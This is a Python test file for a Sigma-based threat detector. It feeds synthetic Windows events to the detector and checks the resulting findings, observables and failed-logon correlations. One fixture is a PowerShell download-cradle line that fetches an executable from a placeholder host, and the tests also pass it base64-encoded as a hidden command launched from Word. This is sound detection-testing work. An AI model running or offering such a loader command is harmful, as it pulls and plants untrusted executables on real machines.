"""SigmaDetector: findings carry the contract fields, observables and explanations."""

from __future__ import annotations

import base64
import pickle

import polars as pl

from sekimori.detect.sigma.detector import SigmaDetector
from sekimori.detect.sigma.findings import Matched
from sekimori.model import EventBatch, Observable, Severity
from tests.detect.sigma.cases import batch_of, event_row

SYSMON = {"event.code": "1", "winlog.channel": "Microsoft-Windows-Sysmon/Operational"}
LOADER = "(New-Object Net.WebClient).DownloadFile('http://a.example.com/x/','C:\\t\\1.exe')"


def test_encoded_powershell_from_word_is_explained() -> None:
    detector = SigmaDetector([])
    encoded = base64.b64encode(LOADER.encode("utf-16-le")).decode()
    event = {
        **SYSMON,
        "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": f"powershell -w hidden -enc {encoded}",
        "User": "CORP\\alice",
    }
    batch = batch_of([event_row(0, event, {}, "C:\\logs\\sysmon.evtx")])
    findings = detector.detect(batch, detector.new_state())
    by_rule = {f.rule_name: f for f in findings}
    office = by_rule["Office or Outlook Starts a Shell or Script Host"]
    assert office.ruleset == "sekimori"
    assert office.severity is Severity.HIGH
    assert office.tactics == ("execution",)
    assert office.techniques == ("T1204.002", "T1059")
    assert office.user_name == "CORP\\alice"
    assert office.event_id == "0"
    assert office.log_file_path == "C:\\logs\\sysmon.evtx"
    assert office.evidence["selections"] == ["selection_parent", "selection_child"]
    assert set(office.evidence["fields"]) == {"ParentImage", "Image"}
    assert Observable("url", "http://a.example.com/x/") in office.observables
    assert Observable("domain", "a.example.com") in office.observables
    assert "PowerShell With an Encoded Command" in by_rule
    doc = office.to_json()
    assert doc["rule"]["ruleset"] == "sekimori"
    assert doc["threat"]["technique"]["id"] == ["T1204.002", "T1059"]


def test_other_datasets_and_empty_batches_are_ignored() -> None:
    detector = SigmaDetector([])
    batch = batch_of([event_row(0, {**SYSMON, "Image": "x"}, {}, "x")])
    assert detector.detect(EventBatch("zeek.conn", batch.frame), detector.new_state()) == []
    assert detector.detect(EventBatch("windows", pl.DataFrame()), detector.new_state()) == []


def test_numeric_ecs_columns_are_matched_as_text() -> None:
    detector = SigmaDetector([])
    event = {
        **SYSMON,
        "process.executable": "C:\\Windows\\SysWOW64\\regsvr32.exe",
        "process.command_line": 'regsvr32 /s "C:\\Users\\bob\\AppData\\Local\\Q\\q.dll"',
    }
    frame = batch_of([event_row(0, event, {}, "x")]).frame.with_columns(
        pl.lit(4242, dtype=pl.Int64).alias("process.pid")
    )
    findings = detector.detect(EventBatch("windows", frame), detector.new_state())
    assert [f.rule_name for f in findings] == [
        "Regsvr32 or Rundll32 Runs a DLL From a User-Writable Folder"
    ]


def test_burst_correlation_names_its_source() -> None:
    detector = SigmaDetector([])
    rows = [
        event_row(
            i,
            {"event.code": "4625", "winlog.channel": "Security", "IpAddress": "192.0.2.66"},
            {},
            "security.evtx",
        )
        for i in range(30)
    ]
    state = detector.new_state()
    assert detector.detect(batch_of(rows[:15]), state) == []
    assert detector.detect(batch_of(rows[15:]), state) == []
    (finding,) = detector.finish(state)
    assert finding.rule_name == "Burst of Failed Logons From One Source"
    assert finding.source_ip == "192.0.2.66"
    assert finding.evidence["count"] == 30
    assert finding.evidence["group_by"] == {"IpAddress": "192.0.2.66"}
    assert finding.techniques == ("T1110", "T1110.001")
    # Evaluated elsewhere (a worker: no state there), built here: the same window.
    build = SigmaDetector.builder(pickle.loads(pickle.dumps(detector.builder_seed())))
    parts = [detector.matches(batch_of(rows[:15])), detector.matches(batch_of(rows[15:]))]
    assert [build(pickle.loads(pickle.dumps(p))) for p in parts] == [[], []]
    assert build.finish() == [finding]


def test_findings_are_built_as_from_each_matched_row_alone() -> None:
    # The matched rows are converted once per evaluation step and shared by
    # the rules that matched them; each finding must still be the one its own
    # row and evidence give, context and observables included.
    from sekimori.detect.sigma.engine import evaluate
    from sekimori.detect.sigma.findings import _finding

    detector = SigmaDetector([])
    encoded = base64.b64encode(LOADER.encode("utf-16-le")).decode()
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    events = [
        {
            **SYSMON,
            "ParentImage": word,
            "Image": shell,
            "CommandLine": f"powershell -enc {encoded}",
        },
        {**SYSMON, "Image": "C:\\Windows\\notepad.exe", "CommandLine": "notepad"},
        {**SYSMON, "ParentImage": word, "Image": shell, "CommandLine": "powershell -c 1+1"},
    ]
    batch = batch_of(
        [event_row(i, e, {"User": f"CORP\\u{i}"}, "s.evtx") for i, e in enumerate(events)]
    )
    matches = evaluate(batch.frame, detector.groups, keep=detector._keep)
    expected = [
        _finding(m.rule.meta, m.row(i), m.evidence(i), "windows")
        for m in matches
        if m.rule.output
        for i in range(len(m))
    ]
    found = detector.detect(batch, detector.new_state())
    assert len({f.event_id for f in found}) == 2
    assert len(found) > 2
    assert found == expected
    assert [f.id for f in found] == [f.id for f in expected]
    assert any("context" in f.evidence for f in found)


def test_matches_cross_processes_and_build_the_same_findings() -> None:
    """What a worker sends (``matches``, pickled) builds the findings ``detect`` returns."""
    detector = SigmaDetector([])
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    events = [
        {**SYSMON, "ParentImage": word, "Image": shell, "CommandLine": "powershell -nop -w hidden"},
        {**SYSMON, "Image": "C:\\Windows\\notepad.exe", "CommandLine": "notepad"},
        {**SYSMON, "ParentImage": word, "Image": shell, "CommandLine": f"powershell {LOADER}"},
    ]
    batch = batch_of([event_row(i, e, {}, "s.evtx") for i, e in enumerate(events)])
    part = detector.matches(batch, detector.new_state())
    assert isinstance(part, Matched)
    assert part.frames and all(isinstance(f, pl.DataFrame) for f in part.frames)
    received = pickle.loads(pickle.dumps(part))
    assert all(f.equals(g) for f, g in zip(received.frames, part.frames, strict=True))
    built = SigmaDetector.builder()(received)
    expected = detector.detect(batch, detector.new_state())
    assert len(expected) >= 2
    assert built == expected
    assert [f.id for f in built] == [f.id for f in expected]
    empty = EventBatch(batch.dataset, batch.frame.head(0))
    assert SigmaDetector.builder()(detector.matches(empty, None)) == []
